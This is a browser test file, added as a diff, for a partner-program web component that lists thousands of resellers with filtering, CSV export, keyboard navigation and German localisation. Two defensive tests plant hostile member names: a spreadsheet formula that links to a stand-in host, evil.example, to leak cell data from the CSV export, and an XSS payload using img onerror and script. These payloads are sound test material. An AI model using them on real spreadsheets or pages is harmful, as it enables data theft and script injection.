@@ -1,0 +1,547 @@
+// <partner-member-overview> against the real sandbox (15,000 resellers): summary, a virtualized member list of
+// thousands, server-side filter/sort/search, CSV export, a member's checklist, keyboard use, hostile names, German.
+import { setupIgnoreWindowResizeObserverLoopErrors } from '@lit-labs/virtualizer/support/resize-observer-errors.js';
+import { expect, fixtureCleanup, waitUntil } from '@open-wc/testing';
+import type { Member, MemberQuery } from '@poly-partner/contract';
+import type { PartnerClient } from '@poly-partner/sdk';
+import '../src/components/partner-member-overview/partner-member-overview.js';
+import type { PartnerMemberOverview } from '../src/components/partner-member-overview/partner-member-overview.js';
+import { FetchFaults } from './support/fetch-faults.js';
+import { mount, part, textOf, waitForText } from './support/mount.js';
+import { clientFor, sandboxConfig } from './support/sandbox.js';
+import { runWidgetBaseTests } from './support/widget-base-tests.js';
+
+const TAG = 'partner-member-overview';
+
+interface Org {
+  orgId: string;
+  kind: string;
+  memberCount: number;
+}
+
+let orgs: Promise<Org[]> | undefined;
+/** The demo organizations with their member counts, smallest first. */
+function organizations(): Promise<Org[]> {
+  orgs ??= (async () => {
+    const { credentials } = await sandboxConfig();
+    const withCounts = await Promise.all(
+      credentials.organizations.map(async ({ orgId, kind }) => {
+        const client = await clientFor({ orgId });
+        return { orgId, kind, memberCount: (await client.organizations.get(orgId)).memberCount };
+      }),
+    );
+    return withCounts.sort((a, b) => a.memberCount - b.memberCount);
+  })();
+  return orgs;
+}
+
+/** The organization with at least 5,000 members. */
+async function bigOrg(): Promise<Org> {
+  const org = (await organizations()).find((candidate) => candidate.memberCount >= 5000);
+  if (!org) throw new Error('The sandbox has no organization with 5,000 members');
+  return org;
+}
+
+/** An organization with a few hundred members or more (filters still leave rows), but not the biggest. */
+async function midOrg(): Promise<Org> {
+  const all = await organizations();
+  return all.find((candidate) => candidate.memberCount >= 200 && candidate.memberCount < 5000) ?? all[all.length - 1]!;
+}
+
+const en = new Intl.NumberFormat('en');
+const shadow = (el: Element) => el.shadowRoot!;
+const rows = (el: Element) => [...shadow(el).querySelectorAll<HTMLElement>("[role='row'][data-index]")];
+const rowNames = (el: Element) => rows(el).map((row) => row.querySelector('.cell--name')!.textContent!.trim());
+const countText = (el: Element) => part(el, 'count')?.textContent?.replace(/\s+/g, ' ').trim() ?? '';
+
+function select(el: Element, name: string, value: string): void {
+  const field = shadow(el).querySelector<HTMLSelectElement>(`select[name='${name}']`)!;
+  field.value = value;
+  field.dispatchEvent(new Event('change', { bubbles: true }));
+}
+
+function type(el: Element, text: string): void {
+  const input = part(el, 'search') as HTMLInputElement;
+  input.value = text;
+  input.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
+}
+
+function press(target: Element, key: string): void {
+  target.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true, cancelable: true }));
+}
+
+/** Waits until the list shows the total the API gives for `query` (the list has reloaded). */
+async function waitForTotal(el: PartnerMemberOverview, client: PartnerClient, orgId: string, query: MemberQuery): Promise<number> {
+  const { total } = await client.organizations.members(orgId, { ...query, limit: 1 });
+  await waitUntil(
+    () => countText(el).startsWith(`${en.format(total)} `) && el.shadowRoot!.querySelector('[aria-busy="true"]') === null,
+    `count to show ${total}; it shows "${countText(el)}"`,
+    { timeout: 8000 },
+  );
+  return total;
+}
+
+/** Scrolls the list to its end, as a user dragging the scrollbar down would, until `done()` holds. */
+async function scrollListToEnd(el: Element, done: () => boolean, message: string): Promise<void> {
+  const body = shadow(el).querySelector<HTMLElement>('.grid__body')!;
+  await waitUntil(
+    () => {
+      body.scrollTop = body.scrollHeight;
+      return done();
+    },
+    message,
+    { interval: 150, timeout: 20_000 },
+  );
+}
+
+async function mountOrg(org: Org, fetch?: typeof globalThis.fetch) {
+  const client = await clientFor({ orgId: org.orgId }, fetch ? { fetch } : {});
+  const mounted = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
+  await mounted.ready;
+  await mounted.el.updateComplete;
+  // The virtualizer renders the rows in the window's viewport, as the user scrolls the list into view.
+  part(mounted.el, 'grid')!.scrollIntoView({ block: 'start' });
+  await waitUntil(() => rows(mounted.el).length > 0, 'rows to render');
+  return { ...mounted, client };
+}
+
+// The virtualizer measures rows with a ResizeObserver; Chromium reports a benign "loop completed with undelivered
+// notifications" when a measurement resizes the list, which Mocha would count as a failure (see the package's README).
+setupIgnoreWindowResizeObserverLoopErrors(beforeEach, afterEach);
+
+// The first request starts and seeds the 15,000-reseller sandbox: do it before the tests' own time limits apply.
+before(async function () {
+  this.timeout(120_000);
+  await organizations();
+});
+
+runWidgetBaseTests({
+  tag: TAG,
+  attributes: async () => ({ 'org-id': (await midOrg()).orgId }),
+  client: async (fetch) => clientFor({ orgId: (await midOrg()).orgId }, { fetch }),
+  loadedText: { en: /Members per tier/, de: /Mitglieder je Stufe/ },
+  size: 'reserved',
+});
+
+describe('<partner-member-overview>', function () {
+  afterEach(() => {
+    document.documentElement.lang = 'en';
+    fixtureCleanup();
+  });
+
+  it('shows the summary at a glance: tiers by name, shape and count, protections, close to next tier, pipeline', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    const summary = await client.organizations.summary(org.orgId);
+
+    const bars = [...shadow(el).querySelectorAll('[part~="tier-bar"]')];
+    expect(bars.map((bar) => bar.textContent!.replace(/\s+/g, ' ').trim())).to.deep.equal([
+      `Register ${en.format(summary.tiers.register)}`,
+      `Silver ${en.format(summary.tiers.silver)}`,
+      `Gold ${en.format(summary.tiers.gold)}`,
+      `Platinum ${en.format(summary.tiers.platinum)}`,
+    ]);
+    for (const tier of ['register', 'silver', 'gold', 'platinum']) {
+      expect(shadow(el).querySelector(`[part~="tier-bar"] svg.tier-icon--${tier}`), `${tier} shape`).to.exist;
+    }
+    // The chart also reads as a table, with the counts by earned tier beside.
+    const table = shadow(el).querySelector('[part~="tier-chart"] table')!;
+    expect(table.textContent).to.contain(en.format(summary.earnedTiers.register));
+
+    expect(textOf(part(el, 'protections')!)).to.contain(
+      `${en.format(summary.protectionsEndingSoon.count)} within ${summary.protectionsEndingSoon.withinDays} days`,
+    );
+    expect(textOf(part(el, 'close-to-next')!)).to.contain(`${en.format(summary.closeToNextTier.count)} members`);
+    const pipeline = textOf(part(el, 'pipeline')!);
+    for (const entry of summary.pipeline) expect(pipeline).to.contain(en.format(entry.count));
+    expect(pipeline).to.contain('Under review');
+    expect(countText(el)).to.equal(`${en.format(summary.memberCount)} members`);
+    // A strict CSP blocks style attributes: the widget must not need any.
+    expect(shadow(el).querySelector('[part~="summary"] [style]'), 'no style attribute in the summary').to.not.exist;
+    await expect(el).to.be.accessible();
+  });
+
+  it('keeps fewer than 200 rows in the DOM for 5,000+ members, and loads more as the user scrolls', async () => {
+    const org = await bigOrg();
+    const { el, client } = await mountOrg(org);
+    const { total } = await client.organizations.members(org.orgId, { limit: 1 });
+    expect(total).to.be.at.least(5000);
+    expect(countText(el)).to.equal(`${en.format(total)} members`);
+    expect(part(el, 'grid')!.getAttribute('aria-rowcount')).to.equal(String(total + 1));
+    expect(rows(el).length).to.be.greaterThan(5).and.lessThan(200);
+
+    const firstName = rowNames(el)[0];
+    await scrollListToEnd(el, () => rows(el).some((row) => Number(row.dataset.index) >= 200), 'rows beyond the first pages');
+    expect(rows(el).length, 'rows in the DOM after scrolling').to.be.lessThan(200);
+    expect(rowNames(el)).to.not.include(firstName);
+    // Scrolled rows are the API's next pages, in order.
+    const walked = await client.organizations.members(org.orgId, { limit: 500 });
+    const deepest = rows(el).at(-1)!;
+    const index = Number(deepest.dataset.index);
+    expect(deepest.querySelector('.cell--name')!.textContent!.trim()).to.equal(walked.items[index]!.name);
+    expect(deepest.getAttribute('aria-rowindex')).to.equal(String(index + 2));
+  });
+
+  it('filters on the server by tier, region, country and ending protection, and clears the filters', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+
+    select(el, 'tier', 'gold');
+    const gold = await waitForTotal(el, client, org.orgId, { tier: 'gold' });
+    expect(countText(el)).to.equal(`${en.format(gold)} of ${en.format(org.memberCount)} members match`);
+    if (gold > 0) {
+      for (const row of rows(el)) expect(row.querySelector('.cell--tier .tier')!.textContent!.trim()).to.equal('Gold');
+    }
+
+    select(el, 'tier', '');
+    const { items } = await client.organizations.members(org.orgId, { limit: 1 });
+    const country = items[0]!.country;
+    select(el, 'country', country);
+    await waitForTotal(el, client, org.orgId, { country });
+    const countryLabel = new Intl.DisplayNames('en', { type: 'region' }).of(country)!;
+    for (const row of rows(el)) expect(row.querySelector('.cell--country')!.textContent!.trim()).to.equal(countryLabel);
+
+    select(el, 'country', '');
+    select(el, 'region', items[0]!.region);
+    await waitForTotal(el, client, org.orgId, { region: items[0]!.region });
+
+    select(el, 'region', '');
+    select(el, 'protectionEndingWithinDays', '365');
+    const ending = await waitForTotal(el, client, org.orgId, { protectionEndingWithinDays: 365 });
+    if (ending > 0) for (const row of rows(el)) expect(row.querySelector('.cell--protectedUntil')!.textContent!.trim()).to.not.equal('–');
+    await expect(el).to.be.accessible();
+
+    select(el, 'protectionEndingWithinDays', '0');
+    await waitForTotal(el, client, org.orgId, {});
+    expect(countText(el)).to.equal(`${en.format(org.memberCount)} members`);
+  });
+
+  it('sorts by a column header on the server, with aria-sort, and turns the order round', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    const header = (key: string) => shadow(el).querySelector<HTMLElement>(`[role='columnheader'].cell--${key}`)!;
+    expect(header('name').getAttribute('aria-sort')).to.equal('ascending');
+    const byName = await client.organizations.members(org.orgId, { sort: 'name', limit: 5 });
+    expect(rowNames(el).slice(0, 5)).to.deep.equal(byName.items.map((member) => member.name));
+
+    header('name').querySelector('button')!.click();
+    const descending = await client.organizations.members(org.orgId, { sort: '-name', limit: 5 });
+    await waitUntil(() => rowNames(el)[0] === descending.items[0]!.name, 'descending names');
+    expect(header('name').getAttribute('aria-sort')).to.equal('descending');
+    expect(rowNames(el).slice(0, 5)).to.deep.equal(descending.items.map((member) => member.name));
+
+    header('progress').querySelector('button')!.click();
+    const byProgress = await client.organizations.members(org.orgId, { sort: 'progress', limit: 5 });
+    await waitUntil(() => header('progress').getAttribute('aria-sort') === 'ascending' && !part(el, 'grid')?.matches('[aria-busy="true"]'));
+    expect(rowNames(el).slice(0, 5)).to.deep.equal(byProgress.items.map((member) => member.name));
+    expect(header('name').getAttribute('aria-sort')).to.equal('none');
+    await expect(el).to.be.accessible();
+  });
+
+  it('searches by name once the user pauses typing, and says when nothing matches', async () => {
+    const org = await midOrg();
+    const faults = new FetchFaults();
+    const { el, client } = await mountOrg(org, faults.fetch);
+    const { items } = await client.organizations.members(org.orgId, { limit: 50, sort: '-name' });
+    const word = items[0]!.name.split(/\s+/)[0]!;
+
+    const before = faults.seen.filter((path) => path.endsWith('/members')).length;
+    for (let length = 1; length <= word.length; length++) type(el, word.slice(0, length));
+    const total = await waitForTotal(el, client, org.orgId, { q: word });
+    // Debounced: one list request for the whole word, not one per keystroke.
+    expect(faults.seen.filter((path) => path.endsWith('/members')).length - before).to.be.lessThan(3);
+    expect(countText(el)).to.equal(`${en.format(total)} of ${en.format(org.memberCount)} members match`);
+    for (const name of rowNames(el)) expect(name.toLowerCase()).to.contain(word.toLowerCase());
+
+    type(el, 'zzqx no such reseller');
+    await waitForText(el, /No members match these filters\./);
+    expect(part(el, 'grid')).to.not.exist;
+    await expect(el).to.be.accessible();
+    shadow(el).querySelector<HTMLButtonElement>('button.secondary')!.click();
+    await waitForTotal(el, client, org.orgId, {});
+    expect((part(el, 'search') as HTMLInputElement).value).to.equal('');
+  });
+
+  it('exports the filtered list as CSV: every page, quoted, with formulas defused', async () => {
+    const org = await bigOrg();
+    const faults = new FetchFaults();
+    // Hostile names from the API: a formula, and one with a comma and quotes.
+    faults.rewriteJson(/\/members$/, (body) => {
+      const page = body as { items: Member[] };
+      page.items.forEach((member, index) => {
+        if (index % 50 === 0) member.name = `=HYPERLINK("http://evil.example/?"&A1,"Click") ${member.name}`;
+        else if (index % 50 === 1) member.name = `"Müller", Schmidt & Co ${member.name}`;
+      });
+      return page;
+    });
+    const { el, client } = await mountOrg(org, faults.fetch);
+    select(el, 'tier', 'silver');
+    const total = await waitForTotal(el, client, org.orgId, { tier: 'silver' });
+    expect(total).to.be.greaterThan(500); // more than one export page
+
+    const blobs: Blob[] = [];
+    const originalCreate = URL.createObjectURL;
+    const clicks: string[] = [];
+    const originalClick = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return originalCreate.call(URL, blob);
+    };
+    // Keep the browser from actually saving a file; note the file name it would have used.
+    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
+      clicks.push(this.download);
+    };
+    try {
+      part(el, 'export-button')!.click();
+      await waitForText(el, new RegExp(`Exported ${en.format(total)} members`));
+    } finally {
+      URL.createObjectURL = originalCreate;
+      HTMLAnchorElement.prototype.click = originalClick;
+    }
+    expect(blobs).to.have.length(1);
+    expect(clicks[0]).to.match(/^members-.+\.csv$/);
+    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
+    const lines = text.trimEnd().split('\r\n');
+    expect(lines[0]).to.equal(
+      'Partner ID,Name,Country,Region,Current tier,Earned by results,Protected tier,Protected until,Next tier,Progress to next tier,Requirements missing',
+    );
+    expect(lines.length - 1, 'one line per member of the filtered list').to.equal(total);
+    const body = lines.slice(1);
+    expect(body.every((line) => /^[^,]+,.*,silver,/.test(line)), 'only silver members').to.be.true;
+    expect(body.some((line) => line.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") `))).to.be.true;
+    expect(body.some((line) => line.includes(`,"""Müller"", Schmidt & Co `))).to.be.true;
+    expect(body.some((line) => /,=/.test(line.replace(/"[^"]*(""[^"]*)*"/g, '')))).to.be.false;
+  });
+
+  it('says so when the export fails, and tells the page', async () => {
+    const org = await midOrg();
+    const faults = new FetchFaults();
+    const { el } = await mountOrg(org, faults.fetch);
+    const error = new Promise<Event>((resolve) => el.addEventListener('partner-error', resolve, { once: true }));
+    faults.failWith(503);
+    part(el, 'export-button')!.click();
+    await error;
+    await waitUntil(() => /The partner service had a problem/.test(shadow(el).querySelector('.export-status')!.textContent!));
+    expect((part(el, 'export-button') as HTMLButtonElement).disabled).to.be.false;
+    await expect(el).to.be.accessible();
+  });
+
+  it('shows a selected member\'s checklist; Escape and Close give focus back to the row', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    const second = rows(el)[1]!;
+    const name = second.querySelector('.cell--name')!.textContent!.trim();
+    second.click();
+    await el.updateComplete;
+    const detail = part(el, 'detail')!;
+    expect(detail).to.exist;
+    expect(shadow(el).activeElement?.id, 'focus moves to the panel').to.equal('detail-heading');
+    expect(detail.querySelector('h3')!.textContent!.trim()).to.equal(name);
+    expect(second.getAttribute('aria-selected')).to.equal('true');
+
+    const checklist = detail.querySelector('next-tier-checklist')!;
+    const member = (await client.organizations.members(org.orgId, { limit: 2 })).items[1]!;
+    expect(member.name).to.equal(name);
+    const status = await client.partners.tierStatus(member.partnerId);
+    await waitUntil(() => /Current tier/.test(textOf(checklist)), 'checklist to load', { timeout: 8000 });
+    expect(textOf(checklist)).to.match(status.checklist ? /Next tier: / : /is the highest tier/);
+    await expect(el).to.be.accessible();
+
+    press(shadow(el).activeElement!, 'Escape');
+    await el.updateComplete;
+    await waitUntil(() => shadow(el).activeElement === rows(el)[1], 'focus back on the row');
+    expect(part(el, 'detail')).to.not.exist;
+
+    press(rows(el)[1]!, 'Enter');
+    await el.updateComplete;
+    part(el, 'close-button')!.click();
+    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'focus back on the row after Close');
+
+    // A member picked in the summary opens the same panel; closing it returns to the summary's button.
+    const summaryButton = part(el, 'close-to-next')!.querySelector<HTMLButtonElement>('button')!;
+    summaryButton.click();
+    await el.updateComplete;
+    expect(part(el, 'detail')!.querySelector('h3')!.textContent!.trim()).to.equal(summaryButton.textContent!.trim());
+    part(el, 'close-button')!.click();
+    await waitUntil(() => shadow(el).activeElement === summaryButton, 'focus back on the summary button');
+  });
+
+  it('moves through rows with the arrow keys, Home and End; one row is in the tab order', async () => {
+    const org = await bigOrg();
+    const { el } = await mountOrg(org);
+    const tabbable = () => rows(el).filter((row) => row.tabIndex === 0);
+    expect(tabbable()).to.have.length(1);
+    rows(el)[0]!.focus();
+    press(rows(el)[0]!, 'ArrowDown');
+    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'row 2 focused');
+    press(shadow(el).activeElement!, 'PageDown');
+    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '11', 'row 12 focused');
+    press(shadow(el).activeElement!, 'ArrowUp');
+    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '10', 'row 11 focused');
+    press(shadow(el).activeElement!, 'End');
+    await waitUntil(() => Number(shadow(el).activeElement?.getAttribute('data-index')) >= 99, 'last loaded row focused');
+    expect(rows(el).length).to.be.lessThan(200);
+    press(shadow(el).activeElement!, 'Home');
+    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '0', 'first row focused');
+    expect(tabbable()).to.have.length(1);
+    press(shadow(el).activeElement!, ' ');
+    await el.updateComplete;
+    expect(part(el, 'detail')).to.exist;
+  });
+
+  it('keeps the list reachable by Tab while it is below the fold and no row is rendered', async () => {
+    const org = await midOrg();
+    const client = await clientFor({ orgId: org.orgId });
+    const { el, ready } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
+    const spacer = document.createElement('div');
+    spacer.className = 'spacer';
+    spacer.textContent = 'Above the widget';
+    spacer.setAttribute('role', 'note');
+    spacer.append(Object.assign(document.createElement('div'), { className: 'spacer__block' }));
+    const style = document.createElement('style');
+    style.textContent = '.spacer__block { block-size: 3000px; }';
+    document.head.append(style);
+    el.before(spacer);
+    try {
+      window.scrollTo(0, 0);
+      await ready;
+      await el.updateComplete;
+      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+      expect(rows(el), 'no rows rendered off screen').to.have.length(0);
+      const body = shadow(el).querySelector<HTMLElement>('.grid__body')!;
+      expect(body.tabIndex, 'the list body takes the Tab stop').to.equal(0);
+      await expect(el).to.be.accessible();
+      body.focus();
+      await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '0', 'the first row takes focus');
+      expect(body.tabIndex, 'the row has the Tab stop now').to.equal(-1);
+    } finally {
+      spacer.remove();
+      style.remove();
+    }
+  });
+
+  it('shows hostile member names as text', async () => {
+    const org = await midOrg();
+    const faults = new FetchFaults();
+    const hostile = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
+    faults.rewriteJson(/\/(members|summary)$/, (body) => {
+      const data = body as { items?: Member[]; closeToNextTier?: { members: Member[] } };
+      for (const member of data.items ?? data.closeToNextTier?.members ?? []) member.name = `${hostile} ${member.name}`;
+      return data;
+    });
+    const { el } = await mountOrg(org, faults.fetch);
+    expect(rowNames(el)[0]).to.contain(hostile);
+    expect(shadow(el).querySelector('img, script')).to.not.exist;
+    expect((window as { __pwned?: number }).__pwned).to.be.undefined;
+    await expect(el).to.be.accessible();
+  });
+
+  it('reads in German: summary, filters, columns and count', async () => {
+    document.documentElement.lang = 'de';
+    const org = await midOrg();
+    const { el } = await mountOrg(org);
+    const de = new Intl.NumberFormat('de');
+    await waitForText(el, /Mitglieder je Stufe/);
+    const text = textOf(el);
+    for (const phrase of ['Statusschutz endet bald', 'Kurz vor der nächsten Stufe', 'Deal-Pipeline', 'Nach Namen suchen', 'Alle Stufen', 'Alle Regionen', 'Alle Länder', 'CSV exportieren', 'Fortschritt zur nächsten Stufe', 'Geschützt bis']) {
+      expect(text, phrase).to.contain(phrase);
+    }
+    expect(countText(el)).to.equal(`${de.format(org.memberCount)} Mitglieder`);
+    expect(text).to.not.contain('Members per tier');
+    await expect(el).to.be.accessible();
+
+    type(el, 'zzqx kein solcher Reseller');
+    await waitForText(el, /Keine Mitglieder entsprechen diesen Filtern\./);
+    expect(shadow(el).querySelector<HTMLButtonElement>('button.secondary')!.textContent!.trim()).to.equal('Filter zurücksetzen');
+    await expect(el).to.be.accessible();
+  });
+
+  it('takes its colours from --partner-* custom properties', async () => {
+    const org = await midOrg();
+    const style = document.createElement('style');
+    style.textContent = `.themed { --partner-member-overview-bar-color: rgb(1, 2, 3); --partner-color-surface: rgb(250, 240, 230); }`;
+    document.head.append(style);
+    try {
+      const client = await clientFor({ orgId: org.orgId });
+      const { el, ready } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId, class: 'themed' }, client);
+      await ready;
+      await el.updateComplete;
+      expect(getComputedStyle(shadow(el).querySelector('.tier-bar__fill')!).fill).to.equal('rgb(1, 2, 3)');
+      expect(getComputedStyle(part(el, 'base')!).backgroundColor).to.equal('rgb(250, 240, 230)');
+    } finally {
+      style.remove();
+    }
+  });
+
+  it('shows a failed next page with Retry, and the list goes on after it', async () => {
+    const org = await bigOrg();
+    const faults = new FetchFaults();
+    const { el } = await mountOrg(org, faults.fetch);
+    const errors: Event[] = [];
+    el.addEventListener('partner-error', (event) => errors.push(event));
+    faults.failWith(503);
+    await scrollListToEnd(el, () => /The partner service had a problem/.test(textOf(el)), 'the next page to fail');
+    expect(errors).to.have.length(1);
+    expect(rows(el).length).to.be.greaterThan(0);
+    await expect(el).to.be.accessible();
+    faults.pass();
+    shadow(el).querySelector<HTMLButtonElement>('.more [part~="retry-button"]')!.click();
+    await waitUntil(() => !shadow(el).querySelector('.more'), 'next page loaded');
+    await scrollListToEnd(el, () => rows(el).some((row) => Number(row.dataset.index) >= 100), 'rows of the second page');
+  });
+});
+
+describe('<partner-member-overview> measurements (reported, not asserted)', () => {
+  afterEach(() => fixtureCleanup());
+
+  it('measures data arrival to first rows painted for the 5,000+ member organization', async function () {
+    this.timeout(60_000);
+    const org = await bigOrg();
+    let arrived = 0;
+    // When the last response body (organization, summary, program, first page) has been received: what follows is
+    // parsing, validation and rendering.
+    const timed: typeof fetch = async (input, init) => {
+      const response = await fetch(input, init);
+      const text = await response.text();
+      arrived = performance.now();
+      return new Response(text, { status: response.status, headers: response.headers });
+    };
+    // A host page that shows the list first (it hides the summary cards through their part): the list is in the
+    // window's viewport when the data arrives, so the virtualizer paints rows at once.
+    const style = document.createElement('style');
+    style.textContent = `${TAG}::part(summary) { display: none; }`;
+    document.head.append(style);
+    const samples: number[] = [];
+    for (let run = 0; run < 5; run++) {
+      arrived = 0;
+      const client = await clientFor({ orgId: org.orgId }, { fetch: timed });
+      const { el } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
+      await waitUntil(() => rows(el).length > 0, 'rows', { interval: 1, timeout: 8000 });
+      // Two frames: the rows have been laid out and painted.
+      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+      samples.push(performance.now() - arrived);
+      console.log(
+        `[measure] ${TAG}: ${org.memberCount} members, data arrival -> first rows painted ${(performance.now() - arrived).toFixed(1)} ms, rows in DOM ${rows(el).length}`,
+      );
+      fixtureCleanup();
+    }
+    // Rows kept in the DOM while the user scrolls deep into the list.
+    const client = await clientFor({ orgId: org.orgId });
+    const { el } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
+    await waitUntil(() => rows(el).length > 0, 'rows', { timeout: 8000 });
+    let most = 0;
+    await scrollListToEnd(
+      el,
+      () => {
+        most = Math.max(most, rows(el).length);
+        return rows(el).some((row) => Number(row.dataset.index) >= 1000);
+      },
+      'row 1,000',
+    );
+    console.log(`[measure] after scrolling past row 1,000: ${rows(el).length} rows in DOM (most seen ${most}), ${el.shadowRoot!.querySelectorAll('*').length} elements in the shadow root`);
+    style.remove();
+    samples.sort((a, b) => a - b);
+    console.log(`[measure] median ${samples[2]!.toFixed(1)} ms (min ${samples[0]!.toFixed(1)}, max ${samples[4]!.toFixed(1)})`);
+    expect(samples).to.have.length(5);
+  });
+});
